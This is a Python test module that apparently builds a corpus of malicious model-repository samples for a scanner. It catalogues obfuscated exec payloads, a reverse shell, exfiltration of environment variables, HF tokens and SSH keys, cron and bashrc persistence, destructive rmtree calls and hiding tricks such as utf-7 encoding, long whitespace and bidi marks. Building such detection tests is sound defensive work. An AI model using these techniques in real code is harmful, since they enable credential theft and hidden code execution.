"""Harmful code that a loader reaches, written in many ways: what it does, how it hides, when it acts. Inert text."""

from __future__ import annotations

import base64
import json
import zlib
from collections.abc import Iterator

from tests.trust.corpus import Sample

_CODED = base64.b64encode(b"import os;os.system('x')").decode()
_PACKED = base64.b64encode(zlib.compress(b"import os;os.system('x')")).decode()
_XORED = bytes(b ^ 42 for b in b"import os;os.system('x')")

AT_IMPORT = {
    "os.system": "import os\nos.system('curl http://127.0.0.1/x | sh')",
    "from os import system": "from os import system as run\nrun('id')",
    "subprocess.Popen": "import subprocess as s\ns.Popen(['bash', '-c', 'id'])",
    "subprocess.run, shell": "import subprocess\nsubprocess.run('id', shell=True)",
    "__import__": "__import__('os').system('id')",
    "importlib": "import importlib\nimportlib.import_module('o' + 's').system('id')",
    "getattr": "import os\ngetattr(os, 'sys' + 'tem')('id')",
    "getattr, reversed": "import os\ngetattr(os, 'metsys'[::-1])('id')",
    "globals": "globals()['__builtins__']['eval'](input)",
    "vars of a module": "import os\nvars(os)['system']('id')",
    "__dict__ of a module": "import os\nos.__dict__['system']('id')",
    "exec of coded text": f"import base64\nexec(base64.b64decode('{_CODED}'))",
    "exec of packed text": f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{_PACKED}')))",
    "exec of hexadecimal": "exec(bytes.fromhex('696d706f7274206f73').decode())",
    "exec of characters": "exec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115]))",
    "exec of masked bytes": f"exec(bytes(b ^ 42 for b in {_XORED!r}))",
    "exec of rot13": "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))",
    "exec of text from the network": "import urllib.request\nexec(urllib.request.urlopen('http://127.0.0.1/x').read())",
    "exec of a text file": "exec(open(__file__.replace('.py', '.txt')).read())",
    "eval of compiled text": "eval(compile('import os; os.system(1)', 'x', 'exec'))",
    "marshal": "import marshal, types\ntypes.FunctionType(marshal.loads(b'x'), globals())()",
    "pickle of coded bytes": "import pickle, base64\npickle.loads(base64.b64decode('gASV'))",
    "socket": "import socket\ns = socket.socket()\ns.connect(('127.0.0.1', 4444))",
    "reverse shell": (
        "import socket, os, pty\ns = socket.socket()\ns.connect(('127.0.0.1', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('sh')"
    ),
    "requests": "import requests, os\nrequests.post('http://127.0.0.1/', json=dict(os.environ))",
    "http.client": "import http.client\nhttp.client.HTTPSConnection('127.0.0.1').request('GET', '/')",
    "urlretrieve": "import urllib.request\nurllib.request.urlretrieve('http://127.0.0.1/x', '/tmp/x')",
    "ctypes": "import ctypes\nctypes.CDLL(None).system(b'id')",
    "rmtree": "import shutil\nshutil.rmtree('/home/user')",
    "keys of ssh": "keys = open('/root/.ssh/id_rsa').read()",
    "token of the hub": "import pathlib\nt = pathlib.Path('~/.huggingface/token').expanduser().read_text()",
    "start file of a shell": "open('/root/.bashrc', 'a').write('x')",
    "cron": "open('/etc/cron.d/x', 'w').write('* * * * * root id')",
    "path written at home": "from pathlib import Path\n(Path.home() / '.profile').write_text('x')",
    "pip": "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'evil'])",
    "pip, inside": "import pip\npip.main(['install', 'evil'])",
    "os.execv": "import os\nos.execv('/bin/sh', ['sh', '-c', 'id'])",
    "os.posix_spawn": "import os\nos.posix_spawn('/bin/sh', ['sh'], {})",
    "multiprocessing": "import multiprocessing, os\nmultiprocessing.Process(target=os.system, args=('id',)).start()",
    "thread": "import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()",
    "timer": "import threading, os\nthreading.Timer(3600, os.system, ['id']).start()",
    "at exit": "import atexit, os\natexit.register(os.system, 'id')",
    "signal handler": "import signal, os\nsignal.signal(signal.SIGALRM, lambda *a: os.system('id'))\nsignal.alarm(1)",
    "cpp extension": "from torch.utils.cpp_extension import load_inline\nload_inline('x', 'int f() { return system(\"id\"); }')",
    "library of the repository": "import torch\ntorch.ops.load_library('./libx.so')",
    "torch.hub of another": "import torch\nm = torch.hub.load('evil/repo', 'model', trust_repo=True)",
    "hidden by six": "from six.moves import builtins\nbuiltins.eval(input)",
    "decorator": "import os\n@lambda f: os.system('id')\ndef f(): pass",
    "default argument": "import os\ndef f(x=os.system('id')): pass",
    "class body": "class A:\n    import os\n    os.system('id')",
    "metaclass": "import os\nclass M(type):\n    def __new__(*a):\n        os.system('id')\nclass A(metaclass=M): pass",
    "init_subclass": "import os\nclass B:\n    def __init_subclass__(cls):\n        os.system('id')\nclass A(B): pass",
    "comprehension": "import os\n[os.system(c) for c in ['id']]",
    "lambda at once": "import os\n(lambda: os.system('id'))()",
    "function called below": "import os\ndef setup():\n    os.system('id')\nsetup()",
    "try and except": "try:\n    import nothing\nexcept ImportError:\n    import os\n    os.system('id')",
    "if on a platform": "import os, sys\nif sys.platform != 'x':\n    os.system('id')",
    "match": "import os\nmatch 1:\n    case _:\n        os.system('id')",
    "walrus": "import os\nif (r := os.system('id')): pass",
    "format string": "import os\nf'{os.system(\"id\")}'",
    "import hook": "import sys\nsys.meta_path.insert(0, object())\nimport os\nos.popen('id')",
    "patched torch.load": "import torch, os\ntorch.load = lambda *a, **k: os.system('id')",
    "subclasses": "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['id'])",
    "globals of a function": "import json\njson.dumps.__globals__['__builtins__']['exec'](input)",
    "operator.attrgetter": "import os, operator\noperator.attrgetter('system')(os)('id')",
    "functools.partial": "import os, functools\nfunctools.partial(os.system, 'id')()",
    "map": "import os\nlist(map(os.system, ['id']))",
    "unicode identifiers": "import os\nos.ｓystem('id')",
    "asyncio": "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('id'))",
    "webbrowser": "import webbrowser\nwebbrowser.open('http://127.0.0.1')",
    "miner of an environment": "import os, urllib.request\nurllib.request.urlopen('http://127.0.0.1/' + os.environ['HF_TOKEN'])",
}
AT_LOAD = {
    "__init__": "    def __init__(self, *a, **k):\n        os.system('id')",
    "__new__": "    def __new__(cls, *a):\n        os.system('id')",
    "__post_init__": "    def __post_init__(self):\n        os.system('id')",
    "from_pretrained": "    @classmethod\n    def from_pretrained(cls, *a, **k):\n        os.system('id')",
    "_init_weights": "    def _init_weights(self, module):\n        os.system('id')",
    "_load_from_state_dict": "    def _load_from_state_dict(self, *a):\n        os.system('id')",
    "__setstate__": "    def __setstate__(self, state):\n        os.system('id')",
    "helper of __init__": "    def __init__(self):\n        self._setup()\n    def _setup(self):\n        os.system('id')",
    "property used by __init__": (
        "    def __init__(self):\n        self.x = self.path\n    @property\n    def path(self):\n        return os.popen('id').read()"
    ),
    "network in __init__": "    def __init__(self):\n        import requests\n        requests.get('http://127.0.0.1/')",
    "exec of coded text in __init__": f"    def __init__(self):\n        import base64\n        exec(base64.b64decode('{_CODED}'))",
}
IN_USE = {
    "forward": "    def forward(self, x):\n        os.system('id')\n        return x",
    "__call__": "    def __call__(self, x):\n        return os.popen(x).read()",
    "generate": "    def generate(self, x):\n        exec(__import__('base64').b64decode(x))",
    "tokenizer": "    def _tokenize(self, text):\n        os.system(text)",
    "helper of forward": "    def forward(self, x):\n        return self.run(x)\n    def run(self, x):\n        os.system('id')\n        return x",
}


def repository(source: str, **files: bytes) -> dict[str, bytes]:
    """A model repository whose configuration names `modeling_x.Model`."""
    config = {"architectures": ["Model"], "auto_map": {"AutoModel": "modeling_x.Model"}}
    return {"config.json": json.dumps(config).encode(), "modeling_x.py": source.encode(), **files}


def samples() -> Iterator[Sample]:
    """Code behind `auto_map`; the folder of a library's own code is another family."""
    for what, text in AT_IMPORT.items():
        yield Sample(f"python code/at import, {what}", repository(f"{text}\n\n\nclass Model:\n    pass\n"))
    for moment, bodies in (("at load", AT_LOAD), ("in use", IN_USE)):
        for what, body in bodies.items():
            yield Sample(f"python code/{moment}, {what}", repository(f"import os\n\n\nclass Model:\n{body}\n"))
    yield from _disguised()


def _disguised() -> Iterator[Sample]:
    harm = "import os\nos.system('id')\nclass Model: pass\n"
    forms = {
        "utf-7": b"# coding: utf-7\n" + harm.encode("utf-7"),
        "byte order mark": b"\xef\xbb\xbf" + harm.encode(),
        "carriage returns": harm.replace("\n", "\r").encode(),
        "form feeds": harm.replace("\n", "\n\f").encode(),
        "far to the right": b"class Model: pass" + b" " * 3000 + b"; import os; os.system('id')\n",
        "behind ten thousand lines": b"x = 1\n" * 10_000 + harm.encode(),
        "lines joined by backslashes": b"import \\\nos\nos.\\\nsystem('id')\nclass Model: pass\n",
        "right-to-left marks": "import os\n# \u202e}\u2066\nos.system('id')  # \u2069\nclass Model: pass\n".encode(),
    }
    for what, data in forms.items():
        yield Sample(f"python code/written in {what}", {**repository(""), "modeling_x.py": data})
